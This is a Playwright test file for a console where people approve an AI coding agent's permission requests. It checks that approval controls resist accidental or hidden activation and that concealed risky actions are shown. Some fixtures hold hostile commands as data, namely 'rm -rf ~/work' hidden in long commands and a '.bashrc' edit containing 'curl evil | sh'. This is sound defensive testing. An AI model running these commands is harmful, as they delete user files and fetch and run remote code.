"""Other ways to a decision: held keys, what lies over a button, folds, other files, other calls, modes, deeds on sessions."""

from typing import Any

import pytest
from playwright.async_api import Browser, Locator, expect
from pydantic import JsonValue

from console_decisions import OPTIONS, armed, command, given, own_clock, pass_the_second, session
from console_page import console
from console_states import empty_hub, entries, hub_harness, made, show
from turnwire.hub.host import CommandRefused
from turnwire.hub.wire.frames import AnyCommand
from turnwire.normalize.events import (
    AgentEvent,
    Mode,
    Model,
    PermissionOption,
    PermissionRequest,
    PermissionResolved,
    RememberedRule,
    SessionInfo,
    SessionMode,
    UserMessage,
)
from turnwire.normalize.payloads import ModifyFilePayload, ShellExecPayload, ShowPlanPayload
from turnwire.normalize.payloads.files import ModifyFile, Mutation
from turnwire.normalize.payloads.work import ShellExec, ShowPlan
from waiting import until

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.long]


async def forked(_: AnyCommand) -> JsonValue:
    return {"session": "forked"}


async def refused(_: AnyCommand) -> JsonValue:
    raise CommandRefused("not_running", "nothing runs", "session")


async def middle(control: Locator) -> tuple[float, float]:
    box = await control.bounding_box()
    assert box is not None
    return box["x"] + box["width"] / 2, box["y"] + box["height"] / 2


def edit(pending_id: str, path: str, *mutations: Mutation, **more: Any) -> PermissionRequest:
    return PermissionRequest(
        pending_id=pending_id,
        permission_title=f"Edit {path}",
        permission_options=OPTIONS[:1],
        action_type="file_write",
        normalized=ModifyFilePayload(modify_file=ModifyFile(file_path=path, mutations=list(mutations))),
        **more,
    )


@pytest.mark.parametrize("key", ["Enter", "Space"])
async def test_a_key_held_down_before_a_button_may_decide_decides_nothing(browser: Browser, key: str) -> None:
    async with session(browser, command("a")) as (where, page):
        allow = page.locator("[data-option=allow_once]")
        await armed(allow)
        await allow.focus()
        await own_clock(page)
        # it moves, and the key goes down before its second is over
        await page.evaluate("document.querySelector('.dock').style.marginBottom = '58px'")
        await expect(allow).to_be_disabled()
        await page.keyboard.down(key)
        await pass_the_second(page)
        await armed(allow)
        # as a keyboard repeats a key
        await page.keyboard.down(key)
        await page.keyboard.up(key)
        assert given(where) == []
        await page.keyboard.press(key)
        await until(lambda: len(given(where)) == 1)


async def test_what_lay_over_a_button_is_not_tapped_through(browser: Browser) -> None:
    async with session(browser, command("a"), width=390, height=844) as (where, page):
        allow = page.locator("[data-option=allow_once]")
        await armed(allow)
        await page.get_by_role("button", name="Sessions", exact=True).click()
        await expect(page.locator(".veil")).to_be_visible()
        x, y = await middle(allow)
        # beside the menu, on the veil, with Allow below it: the first tap closes the menu, the second comes 180 ms later
        await page.evaluate(
            "node => node.style.width = '60px'", await page.locator(".sidebar").element_handle()
        )
        await expect(allow).to_be_disabled()
        await own_clock(page)
        await page.mouse.click(x, y)
        await page.evaluate("window.rest(180)")
        await page.mouse.click(x, y)
        await expect(page.locator(".veil")).to_have_count(0)
        assert given(where) == []


MANY = "\n".join(f"echo {number}" for number in range(60)) + "\nrm -rf ~/work"


async def test_an_edit_of_what_was_not_seen_to_its_end_waits_for_its_end(browser: Browser) -> None:
    async with session(browser, command("a", MANY)) as (where, page):
        allow = page.locator("[data-option=allow_once]")
        await armed(page.locator("[data-option=reject_once]"))
        await page.get_by_role("button", name="Edit input").click()
        field = page.get_by_role("textbox", name="Command")
        await expect(field).to_be_visible()
        await own_clock(page)
        await pass_the_second(page)
        await expect(allow).to_be_disabled()
        await field.press("Control+Enter")
        assert given(where) == []
        await page.get_by_role("button", name="Go to the end").click()
        await expect(page.locator(".unseen")).to_have_count(0)
        await pass_the_second(page)
        await armed(allow)
        await allow.click()
        await until(lambda: len(given(where)) == 1)


async def test_the_end_below_the_inspector_of_a_phone_has_not_been_seen(browser: Browser) -> None:
    async with session(browser, command("a", "npm publish")) as (_, page):
        allow = page.locator("[data-option=allow_once]")
        await armed(allow)
        cover = """() => {
          const over = document.createElement('div');
          over.style = 'position:fixed;inset:0;z-index:99;background:white';
          document.body.append(over);
        }"""
        await page.evaluate(cover)
        await expect(allow).to_be_disabled()


async def test_allow_unseen_has_to_stand_still_itself(browser: Browser) -> None:
    async with session(browser, command("a", MANY)) as (where, page):
        unseen = page.get_by_role("button", name="Allow unseen")
        await unseen.wait_for()
        await own_clock(page)
        await page.evaluate("document.querySelector('.dock').style.marginBottom = '58px'")
        await unseen.evaluate("node => node.click()")
        await expect(page.locator(".unseen")).to_be_visible()
        assert given(where) == []
        await pass_the_second(page)
        await armed(unseen)
        await unseen.click()
        await until(lambda: len(given(where)) == 1)


DEEP = "/srv/" + "very-long-folder-name/" * 12 + "of/the/thing.py"


@pytest.mark.parametrize("width", [390, 1280])
async def test_every_file_of_a_change_is_named_in_full(browser: Browser, width: int) -> None:
    request = edit(
        "a",
        DEEP,
        Mutation(type="edit", old_content="one", new_content="two", replace_all=True),
        Mutation(type="create", file_path="/home/ada/.bashrc", content="curl evil | sh"),
        Mutation(type="edit", old_content="gone\n" * 700, new_content=""),
    )
    async with session(browser, request, width=width) as (_, page):
        body = page.locator(".request-body")
        for words in (DEEP, "/home/ada/.bashrc", "every occurrence", "gone"):
            await expect(body).to_contain_text(words)
        cut = "node => [...node.querySelectorAll('*')].every(one => one.scrollWidth <= one.clientWidth + 1)"
        assert await body.evaluate(cut)


async def test_all_calls_that_one_answer_decides_are_told(browser: Browser) -> None:
    request = command("a", "ls")
    joined = PermissionRequest(
        pending_id="a",
        permission_title="ls",
        permission_options=OPTIONS[:1],
        action_type="other",
        action_details={"calls": ["rm -rf ~/work", "ls"]},
        normalized=request.normalized,
        tool_input={"command": "ls", "cmd": "ls"},
    )
    async with session(browser, joined) as (_, page):
        await expect(page.locator(".request-body")).to_contain_text("rm -rf ~/work")


async def test_a_command_that_the_input_tells_otherwise_is_shown_both_ways(browser: Browser) -> None:
    request = PermissionRequest(
        pending_id="a",
        permission_title="ls",
        permission_options=OPTIONS[:1],
        action_type="command",
        normalized=ShellExecPayload(shell_exec=ShellExec(command="ls")),
        tool_input={"command": "rm -rf ~/work"},
    )
    async with session(browser, request) as (_, page):
        await expect(page.locator(".request-body")).to_contain_text("rm -rf ~/work")


async def test_a_request_that_tells_nothing_but_its_title_shows_all_of_it(browser: Browser) -> None:
    request = PermissionRequest(
        pending_id="a",
        permission_title="echo " + "x" * 400 + "; rm -rf ~/work",
        permission_options=OPTIONS[:1],
        action_type="other",
    )
    async with session(browser, request) as (_, page):
        await expect(page.locator(".request-body")).to_contain_text("; rm -rf ~/work")
        await expect(page.locator(".request-body")).to_contain_text("says nothing more")


async def test_an_option_of_a_kind_that_is_not_known_is_confirmed(browser: Browser) -> None:
    async with hub_harness(host=empty_hub()) as where:
        [entry] = made([command("a")])
        text = entry.event.decode().replace(
            '"permission_options":[',
            '"permission_options":[{"option_id":"ever","name":"Yes","kind":"allow_for_ever"},',
        )
        await show(where, "asked", [*entries("tool-bash"), type(entry)(text.encode())])
        async with console(browser, where.url) as page:
            await armed(page.locator("[data-option=allow_once]"))
            await expect(page.locator("[data-option=ever]")).to_have_count(0)
            await page.get_by_role("button", name="Always …").click()
            await page.locator(".remember .choice", has_text="Yes").click()
            await page.get_by_role("button", name="Allow, and remember it").click()
            await until(lambda: len(given(where)) == 1)


async def test_rules_are_confirmed_once_they_were_in_view_to_their_end(browser: Browser) -> None:
    many = PermissionOption(
        option_id="allow_always:session",
        name="Always",
        kind="allow_always",
        destination="session",
        remembers=[RememberedRule(rule=f"Bash(make {n} *)", destination="session") for n in range(60)],
    )
    request = PermissionRequest(
        pending_id="a",
        permission_title="make",
        permission_options=[OPTIONS[0], many],
        action_type="command",
        normalized=ShellExecPayload(shell_exec=ShellExec(command="make")),
    )
    async with session(browser, request) as (where, page):
        await armed(page.locator("[data-option=allow_once]"))
        await page.get_by_role("button", name="Always …").click()
        await page.locator(".remember .choice").click()
        confirm = page.get_by_role("button", name="Allow, and remember it")
        await expect(page.locator(".unseen")).to_contain_text("all that is remembered")
        await own_clock(page)
        await pass_the_second(page)
        await expect(confirm).to_be_disabled()
        await page.get_by_role("button", name="Go to the rules").click()
        await expect(page.locator(".unseen")).to_have_count(0)
        await pass_the_second(page)
        await armed(confirm)
        await confirm.click()
        await until(lambda: len(given(where)) == 1)


async def test_rules_are_in_sight_however_far_the_command_was_read(browser: Browser) -> None:
    async with session(browser, command("a", MANY)) as (_, page):
        await page.get_by_role("button", name="Go to the end").click()
        await page.get_by_role("button", name="Always …").click()
        await expect(page.locator(".remember .choice").first).to_be_in_viewport()


PLAN = PermissionRequest(
    pending_id="plan",
    tool_name="ExitPlanMode",
    permission_title="Plan",
    permission_options=[OPTIONS[0], OPTIONS[-1]],
    action_type="other",
    normalized=ShowPlanPayload(show_plan=ShowPlan(operation="exit", plan="1. Look\n2. Change")),
)


async def test_a_plan_is_carried_out_without_questions_only_by_consent(browser: Browser) -> None:
    async with session(browser, PLAN) as (where, page):
        allow = page.locator("[data-option=allow_once]")
        await armed(allow)
        # what is typed with the focus there chooses
        await page.get_by_label("Permissions while it is carried out:").focus()
        await page.keyboard.type("Ask n")
        await expect(page.get_by_label("Permissions while it is carried out:")).to_have_value(
            "bypassPermissions"
        )
        await expect(allow).to_contain_text("Ask nothing")
        await own_clock(page)
        await pass_the_second(page)
        await expect(allow).to_be_disabled()
        await page.get_by_label("I want this").check()
        await armed(allow)
        await allow.click()
        await until(lambda: len(given(where)) == 1)
        assert given(where)[0]["mode"] == "bypassPermissions"


async def test_a_session_that_asks_nobody_is_begun_only_by_consent(browser: Browser) -> None:
    async with hub_harness(host=empty_hub()) as where:
        await show(where, "asked", entries("tool-bash"))
        async with console(browser, where.url) as page:
            await page.get_by_role("button", name="New session").click()
            await page.get_by_text("Model, mode, policy").click()
            await page.get_by_label("Policy").select_option("autonomous")
            await page.get_by_role("button", name="Start").click()
            assert given(where) == []
            await page.get_by_label("I want this").check()
            await page.get_by_role("button", name="Start").click()
            await until(lambda: len(given(where)) == 1)


ABLE = dict.fromkeys(("resume", "rewind", "fork", "interrupt", "withdraw", "set_model", "images"), True)


@pytest.mark.parametrize("mode", ["never-ask", "autoplan", "constructor", "dont_ask_default"])
async def test_a_mode_whose_name_only_contains_a_harmless_word_is_confirmed(
    browser: Browser, mode: str
) -> None:
    async with hub_harness(host=empty_hub()) as where:
        await show(where, "asked", entries("tool-bash"), abilities={**ABLE, "modes": ["default", mode]})
        async with console(browser, where.url) as page:
            await page.locator(".mode-picker summary").click()
            await page.locator(".mode-menu .mode", has_text=mode).click()
            await expect(page.get_by_role("button", name=f"Change to {mode}")).to_be_visible()
            assert given(where) == []
            await where.journal.append("asked", made([SessionMode(current_mode_id=mode)]))
            await expect(page.locator(".mode-in-force .badge.bad")).to_have_text(mode)


async def test_a_double_click_on_fork_makes_one_fork(browser: Browser) -> None:
    async with session(browser) as (where, page):
        where.host.handlers["session.fork"] = forked
        await show(where, "forked", entries("tool-bash"))
        await page.evaluate("location.hash = '#/s/asked'")
        await page.keyboard.press("Alt+i")
        await page.get_by_role("tab", name="Session").click()
        fork = page.get_by_role("button", name="Fork", exact=True)
        await armed(fork)
        await own_clock(page)
        x, y = await middle(fork)
        await page.mouse.click(x, y)
        await page.wait_for_url("**/s/forked")
        await expect(fork).to_be_visible()
        await page.mouse.click(*await middle(fork))
        # what it would have sent comes before this
        await page.get_by_role("button", name="Export as Markdown").click()
        await until(lambda: where.host.commands[-1][0].type == "library.export")
        assert [one["type"] for one in given(where)] == ["session.fork"]


async def test_delete_has_a_second_step_that_no_second_click_takes(browser: Browser) -> None:
    async with session(browser) as (where, page):
        await page.keyboard.press("Alt+i")
        await page.get_by_role("tab", name="Session").click()
        delete = page.get_by_role("button", name="Delete")
        await armed(delete)
        await own_clock(page)
        await delete.dblclick()
        await delete.focus()
        sure = page.get_by_role("button", name="Delete it")
        await sure.evaluate("node => node.click()")
        assert given(where) == []
        await pass_the_second(page)
        await armed(sure)
        await sure.click()
        await until(lambda: [one["type"] for one in given(where)] == ["session.delete"])


@pytest.mark.parametrize("resolved", [False, True])
async def test_calls_behind_one_that_is_asked_about_do_not_run(browser: Browser, *, resolved: bool) -> None:
    """In the real CLI's recording the second and the third call are told while the first one is asked about."""
    shown = entries("perm-parallel")
    texts = [one.event.decode() for one in shown]
    stop = next(at for at, text in enumerate(texts) if '"permission_resolved"' in text)
    async with hub_harness(host=empty_hub()) as where:
        await show(where, "asked", shown[: stop + 1 if resolved else stop], state="running")
        async with console(browser, where.url) as page:
            badges = page.locator(".card.tool .badge")
            await expect(badges).to_have_text(
                ["running" if resolved else "waits for you", "not begun", "not begun"]
            )
            await where.journal.append("asked", shown[stop if not resolved else stop + 1 :])
            # Nothing is said of what is done.
            await expect(page.locator(".card.tool.good")).to_have_count(3)
            await expect(badges).to_have_count(0)


async def test_a_call_that_was_denied_does_not_run(browser: Browser) -> None:
    async with hub_harness(host=empty_hub()) as where:
        shown = entries("perm-deny", up_to="permission_resolved")
        await show(where, "asked", shown, state="running")
        async with console(browser, where.url) as page:
            await expect(page.locator(".card.tool .badge").last).to_have_text("denied")
            await expect(page.locator(".now")).not_to_contain_text("Run")


async def test_a_note_that_could_not_be_sent_waits_in_the_prompt(browser: Browser) -> None:
    async with session(browser, command("a")) as (where, page):
        where.host.handlers["prompt"] = refused
        await page.get_by_label("A note for the agent").fill("and tell me the version")
        await page.locator("[data-option=allow_once]").click()
        await expect(page.get_by_role("textbox", name="Prompt")).to_have_value("and tell me the version")
        await where.journal.append("asked", made([PermissionResolved(pending_id="a", behavior="allow")]))


async def test_an_answer_that_has_arrived_is_not_told_to_be_late(browser: Browser) -> None:
    async with session(browser, command("a")) as (where, page):
        await page.locator("[data-option=allow_once]").click()
        await until(lambda: len(given(where)) == 1)
        await page.wait_for_timeout(2500)
        await expect(page.locator(".request-foot [role=alert]")).to_have_count(0)


async def test_words_are_dragged_into_the_prompt_and_files_nowhere_else(browser: Browser) -> None:
    async with session(browser, command("a")) as (_, page):
        prevented = """([where, file]) => {
          const dataTransfer = new DataTransfer();
          if (file) dataTransfer.items.add(new File(['x'], 'x.txt')); else dataTransfer.setData('text/plain', 'words');
          const event = new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer });
          document.querySelector(where).dispatchEvent(event);
          return event.defaultPrevented;
        }"""
        drops = [
            (".composer textarea", False),
            (".composer textarea", True),
            (".session-head", True),
            (".session-head", False),
            (".message", True),
        ]
        found = [await page.evaluate(prevented, [where, file]) for where, file in drops]
        assert found == [False, True, True, True, True]


async def test_a_refused_model_is_not_shown(browser: Browser) -> None:
    listed = SessionInfo(model="opus", models=[Model(id="opus"), Model(id="haiku", name="Haiku")])
    async with session(browser, listed, command("a")) as (where, page):
        picker = page.get_by_label("Model")
        await expect(picker).to_have_value("opus")
        before = await picker.input_value()
        await picker.select_option("haiku")
        await until(lambda: len(given(where)) == 1)
        await expect(picker).to_have_value(before)


async def test_the_models_and_modes_of_an_agent_are_what_it_offers(browser: Browser) -> None:
    told: list[AgentEvent] = [
        SessionInfo(model="gemini-3", models=[Model(id="gemini-3", name="Gemini 3"), Model(id="flash")]),
        SessionMode(
            current_mode_id="default", available_modes=[Mode(id="default"), Mode(id="yolo", name="Wild")]
        ),
        # it says more of itself later, and lists no models again
        SessionInfo(model="flash", agent_name="gemini-cli"),
    ]
    async with hub_harness(host=empty_hub()) as where:
        await show(where, "acp", made(told), agent="gemini", abilities=ABLE)
        await show(where, "bare", made([UserMessage(text="Hi.")]), agent="grok", abilities=ABLE)
        async with console(browser, f"{where.url}&session=acp") as page:
            picker = page.get_by_label("Model")
            await expect(picker).to_have_value("flash")
            assert await picker.locator("option").all_inner_texts() == ["Gemini 3", "flash"]
            await page.locator(".mode-picker summary").click()
            assert await page.locator(".mode-menu b").all_inner_texts() == ["Ask", "Wild"]
            await picker.select_option("gemini-3")
            await until(lambda: len(given(where)) == 1)
            assert given(where)[0]["model"] == "gemini-3"
        async with console(browser, f"{where.url}&session=bare") as page:
            await expect(page.locator(".composer textarea")).to_be_visible()
            await expect(page.get_by_label("Model")).to_have_count(0)
            await expect(page.locator(".mode-picker")).to_have_count(0)
